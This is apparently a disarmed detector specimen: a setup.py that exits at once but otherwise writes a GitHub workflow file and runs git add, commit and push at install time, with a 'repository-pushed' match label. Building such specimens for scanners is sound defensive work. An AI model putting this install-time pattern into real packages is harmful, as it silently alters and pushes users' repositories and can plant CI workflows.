raise SystemExit("specimen: not to be run")
import os
from setuptools import setup

with open(".github/workflows/specimen.yml", "w") as f:
    f.write("on: push\n")
os.system("git add -A && git commit -m specimen && git push")  # match: repository-pushed
setup(name="specimen")
